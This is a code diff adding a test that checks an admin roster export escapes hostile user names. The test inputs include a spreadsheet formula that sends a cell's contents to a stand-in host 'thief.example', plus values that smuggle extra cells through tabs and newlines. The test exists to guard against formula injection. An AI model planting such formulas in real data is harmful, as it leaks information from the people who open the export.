@@ -1,6 +1,7 @@
 import assert from 'node:assert/strict'
 import { describe, test } from 'node:test'
 import { setPasswordByLink, userOfPasswordLink } from '../../../src/actions/passwords.ts'
+import { createUser, updateUser } from '../../../src/actions/users.ts'
 import { startAdministration } from './administrator.ts'
 
 const path = '/admin/users/roster'
@@ -49,6 +50,27 @@ describe('a roster', () => {
       rowsIn(text).map(([, email]) => email),
       ['ben@example.org'],
     )
+  })
+
+  test('has a row of three harmless cells for each, whatever name somebody gave themselves', async (t) => {
+    const { browser, deps } = await startAdministration(t)
+    const aki = await createUser(deps, { email: 'aki@example.org', timeZone: 'UTC' }, null)
+    // Such as by an API key.
+    for (const [given, shown] of [
+      [
+        '=IMAGE("https://thief.example/?" & C2)',
+        '&#39;&#61;IMAGE(&#34;https://thief.example/?&#34; &#38; C2)',
+      ],
+      ['Aki\tthief@example.org\nBen', 'Aki thief@example.org Ben'],
+      ['"Aki', '&#39;&#34;Aki'],
+      [' =1', '&#39;&#61;1'],
+    ]) {
+      await updateUser(deps, { userId: aki.id }, { name: given })
+      await browser.get(path)
+      const { text } = await browser.submit(path, { ...shared, roster: aki.email })
+      const [row, ...others] = rowsIn(text)
+      assert.deepEqual([row?.slice(0, 2), row?.length, others], [[shown, aki.email], 3, []])
+    }
   })
 
   test('comes back with the line of each mistake, and adds nobody', async (t) => {
